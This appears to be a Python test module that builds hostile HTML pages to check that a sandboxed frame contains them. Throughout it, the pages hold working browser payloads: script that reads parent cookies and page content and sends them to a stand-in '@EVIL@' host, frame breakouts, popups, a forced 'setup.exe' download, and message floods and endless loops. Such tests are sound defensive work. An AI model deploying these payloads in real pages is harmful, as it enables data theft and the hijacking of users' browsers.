"""HTML that wants out of its frame, home, or the page for itself."""

# ruff: noqa: E501 - markup and scripts stand as they are
from __future__ import annotations

from dataclasses import replace

from tests.hostile.case import Case, State, asset, attached, ended, harm, heavy, served

_FRAME = """<!doctype html><meta charset="utf-8"><title>Harmless</title><p>A page in a frame.</p>"""

_SCRIPTS = {
    "navigates the top window": """
        try { top.location = '@EVIL@/top' } catch (e) {}
        try { parent.location.href = '@EVIL@/parent' } catch (e) {}
        try { top.location.hash = 'lbw-pwned' } catch (e) {}
        for (const target of ['_top', '_parent']) {
          const link = document.createElement('a');
          link.href = '@EVIL@/' + target; link.target = target;
          document.body.append(link); link.click();
        }
        try { history.back(); history.go(-2) } catch (e) {}
        try { top.close(); window.stop() } catch (e) {}""",
    "navigates itself home": """
        location = '@EVIL@/self?' + encodeURIComponent(document.body.innerText)""",
    "navigates a frame of its own": """
        const inner = document.createElement('iframe');
        inner.src = '@EVIL@/inner'; document.body.append(inner);
        const blob = new Blob(['<script>new Image().src="@EVIL@/blob"</scr' + 'ipt>'],
                              { type: 'text/html' });
        const other = document.createElement('iframe');
        other.src = URL.createObjectURL(blob); document.body.append(other);
        location = URL.createObjectURL(blob)""",
    "reads the parent": """
        const found = [];
        for (const read of [() => parent.document.body.innerHTML, () => top.document.cookie,
                            () => top.jupyterapp, () => parent.frames[0].document.title,
                            () => document.cookie, () => localStorage.length,
                            () => indexedDB.open('x'), () => caches.keys(),
                            () => sessionStorage.length, () => frameElement.outerHTML]) {
          try { found.push(String(read())) } catch (e) {}
        }
        try { top.__pwned = 'reads the parent' } catch (e) {}
        try { parent.document.body.textContent = 'lbw-pwned' } catch (e) {}
        new Image().src = '@EVIL@/read?' + encodeURIComponent(found.join())""",
    "opens popups": """
        try { window.open('@EVIL@/popup') } catch (e) {}
        try { window.open('about:blank', '_blank', 'noopener') } catch (e) {}
        const link = document.createElement('a');
        link.href = '@EVIL@/blank'; link.target = '_blank'; document.body.append(link); link.click();
        try { alert('lbw-pwned'); confirm('lbw-pwned'); prompt('lbw-pwned'); print() } catch (e) {}""",
    "phones home": """
        const url = '@EVIL@/home';
        const tries = [
          () => fetch(url, { mode: 'no-cors' }), () => fetch(url, { method: 'POST', body: 'x' }),
          () => { const r = new XMLHttpRequest(); r.open('GET', url); r.send() },
          () => new WebSocket('ws://@EVIL_HOST@/ws'), () => new EventSource(url),
          () => navigator.sendBeacon(url, 'x'), () => { new Image().src = url },
          () => { new Audio(url).load() }, () => import(url + '.js'),
          () => new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
          () => new SharedWorker(url), () => navigator.serviceWorker.register(url),
          () => new FontFace('x', `url(${url})`).load(), () => new WebTransport(url),
          () => { document.body.style.background = `url(${url})` },
          () => { const s = document.createElement('script'); s.src = url; document.body.append(s) },
          () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url;
                  document.head.append(l) },
          () => navigator.clipboard.writeText('lbw-pwned'),
          () => new Notification('lbw-pwned'), () => document.documentElement.requestFullscreen(),
        ];
        for (const attempt of tries) { try { const p = attempt(); p?.catch?.(() => {}) } catch (e) {} }
        """,
    "connects ahead": """
        for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender']) {
          const l = document.createElement('link'); l.rel = rel; l.href = '@EVIL@/' + rel;
          l.as = 'fetch'; document.head.append(l);
        }
        const rules = document.createElement('script'); rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['@EVIL@/spec'] }] });
        document.head.append(rules)""",
    "asks a STUN server": """
        try {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:@EVIL_HOST@' },
            { urls: 'turn:@EVIL_HOST@?transport=tcp', username: 'u', credential: 'c' }] });
          peer.createDataChannel('x');
          peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
        } catch (e) {}""",
    "floods its parent with messages": """
        for (let n = 0; n < 20000; n++) {
          parent.postMessage({ type: 'height', height: 1e9, width: 1e9 }, '*');
          parent.postMessage(n, '*');
        }
        parent.postMessage({ lbw: 'height', value: 1e9 }, '*');
        try { new BroadcastChannel('lbw').postMessage('lbw-pwned') } catch (e) {}""",
    "downloads a file": """
        const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob(['MZ'])); link.download = 'setup.exe';
        document.body.append(link); link.click();
        const data = document.createElement('a'); data.href = 'data:application/x-msdownload,MZ';
        data.download = 'setup.exe'; document.body.append(data); data.click()""",
}

_LEAVING = {"navigates itself home", "navigates a frame of its own"}
"""Pages that are gone by the time: a policy that keeps a frame from leaving says so instead."""

_OPEN = {*_LEAVING, "connects ahead", "asks a STUN server"}
"""Pages that no policy keeps from connecting, though from saying anything."""

_STILL = {
    "refreshes to another page": """<meta http-equiv="refresh" content="0;url=@EVIL@/refresh">""",
    "has another base": """<base href="@EVIL@/" target="_top"><img src="relative.png">
        <link rel="stylesheet" href="style.css"><script src="script.js"></script>""",
    "submits a form": """<form id="f" action="@EVIL@/form" method="post" target="_top">
        <input name="q" value="x" autofocus onfocus="f.submit()"><button formaction="@EVIL@/b">go
        </button></form><script>f.submit(); f.requestSubmit()</script>""",
    "links out": """<a id="out" href="@EVIL@/clicked" ping="@EVIL@/ping">Click me</a>
        <a id="top" target="_top" href="@EVIL@/top">Click me too</a>
        <a id="new" target="_blank" href="@EVIL@/new">And me</a>
        <a id="js" href="javascript:top.__pwned=1">Or me</a>""",
    "loads from everywhere": """<style>@import '@EVIL@/import.css';
        @font-face { font-family: x; src: url(@EVIL@/font.woff2) } body { font-family: x;
        background: url(@EVIL@/css.png); cursor: url(@EVIL@/cursor.png), auto }
        li { list-style-image: url(@EVIL@/list.png) } p::after { content: url(@EVIL@/after.png) }
        </style><li>x</li><body background="@EVIL@/body.png">
        <img src="@EVIL@/img.png" srcset="@EVIL@/2x.png 2x"><picture><source srcset="@EVIL@/s.webp">
        <img src="@EVIL@/p.png"></picture><video src="@EVIL@/v.mp4" poster="@EVIL@/poster.png" autoplay
        ></video><audio src="@EVIL@/a.mp3" autoplay></audio><iframe src="@EVIL@/frame"></iframe>
        <object data="@EVIL@/object.swf"></object><embed src="@EVIL@/embed.pdf">
        <input type="image" src="@EVIL@/input.png"><svg><image href="@EVIL@/image.svg"/>
        <use href="@EVIL@/use.svg#x"/></svg><track src="@EVIL@/t.vtt">
        <script src="@EVIL@/script.js"></script><script type="module" src="@EVIL@/m.js"></script>""",
    "asks ahead": """<link rel="preconnect" href="@EVIL@"><link rel="dns-prefetch" href="@EVIL@">
        <link rel="prefetch" href="@EVIL@/prefetch"><link rel="preload" as="image" href="@EVIL@/pre">
        <link rel="modulepreload" href="@EVIL@/m.js"><link rel="prerender" href="@EVIL@/render">
        <link rel="icon" href="@EVIL@/icon.ico"><link rel="manifest" href="@EVIL@/manifest.json">
        <link rel="preconnect" href="@EVIL@" crossorigin><link rel="stylesheet" href="@EVIL@/s.css">
        <script type="speculationrules">{"prerender":[{"source":"list","urls":["@EVIL@/r"]}]}</script>""",
}


def cases() -> list[Case]:
    """Return the cases of this group."""
    return [*_scripted(), *_still(), *_breaking_out(), *_large()]


def _page(name: str, body: str) -> Case:
    kind = "text/html; charset=utf-8"
    return served(f"page {name}", "HTML", _FRAME + body, State.SHOWN, content_type=kind)


def _scripted() -> list[Case]:
    plain = f'<script>{harm("page")}</script><img src=x onerror="{harm("page")}">'
    return [
        _scripted_page("that runs script", plain, ""),
        *[_scripted_page(name, "", script) for name, script in _SCRIPTS.items()],
    ]


def _scripted_page(name: str, body: str, script: str) -> Case:
    """Return a page that says when it has tried everything."""
    said = ended(f"page {name}")
    mark = f"setTimeout(() => console.log('{said}'), 150);"
    page = _page(name, f"{body}<script>{mark}</script><script>{script}</script>")
    opens = "bare connections" if name in _OPEN else ""
    return replace(page, ends="frame-src" if name in _LEAVING else said, opens=opens)


def _still() -> list[Case]:
    return [_page(f"that {name}", body) for name, body in _STILL.items()]


def _breaking_out() -> list[Case]:
    """Return pages whose markup wants to end the frame or what stands before it."""
    code = harm("broken out")
    begins = {
        "an ending of the frame": f'"></iframe></div><script>{code}</script>',
        "an open comment": f"<!-- --!><script>{code}</script>",
        "plain text": f"<plaintext><script>{code}</script>",
        "an open template": f"<template><noscript><title></title></noscript><script>{code}</script>",
        "a looser policy": "<head><meta http-equiv='Content-Security-Policy' content=\"default-src *"
        f" 'unsafe-inline'\"><img src=@EVIL@/looser.png><script>{code}</script>",
        "entities": f"&quot;&gt;&#0;&lt;/iframe&gt;<script>{code}</script>",
    }
    made = [_page(f"begins with {name}", body) for name, body in begins.items()]
    bare = [
        served(f"html: {name}", "HTML", body, State.SHOWN, content_type="text/html")
        for name, body in list(begins.items())[:3]
    ]
    return [
        *made,
        *bare,
        served(
            "html with zero bytes", "HTML", f"<p>\0</p><script>{code}</script>", State.ERROR, "zero"
        ),
        attached(
            "html in a data URL", "HTML", f"data:text/html,<script>{code}</script>x", State.ERROR
        ),
        asset("html as an asset", "HTML", f"<p>x<script>{code}</script>", State.ERROR),
    ]


def _large() -> list[Case]:
    deep = "<div>" * 100_000 + "deep"
    wide = "<b>x</b>" * 100_000
    distinct = "".join(f"<font size={n}>" for n in range(1000))
    return heavy(
        _page("of many elements", wide),
        _page("nested without end", deep),
        _page("that multiplies", f"<p>{distinct}" + "</p><p>x" * 500),
    )


ENDLESS = "<script>for(;;){}</script>"
"""For a window of its own: where frames share the page's thread, nothing would go on behind it."""
